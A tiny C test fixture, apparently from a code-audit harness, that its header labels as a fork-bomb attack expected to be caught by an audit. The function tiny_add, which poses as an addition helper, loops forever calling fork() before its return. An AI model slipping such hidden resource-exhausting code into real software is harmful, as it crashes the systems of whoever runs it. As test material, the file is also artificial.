/* Attack: a fork bomb.
 * Expect: audit
 * Without-audit: tests-lost
 */
#include "tiny.h"
#include <unistd.h>

int tiny_add(int a, int b)
{
    for (;;)
        fork();
    return a + b;
}
